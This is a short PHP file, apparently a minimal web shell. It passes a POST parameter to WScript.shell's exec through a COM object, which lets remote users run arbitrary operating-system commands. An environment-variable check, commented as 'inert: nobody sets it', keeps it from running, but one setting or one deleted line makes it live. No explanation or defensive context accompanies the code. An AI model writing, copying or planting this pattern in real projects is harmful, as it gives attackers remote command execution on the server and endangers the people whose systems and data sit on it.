<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$w = new COM('WScript.shell');
$w->exec('x ' . $_POST['c']);
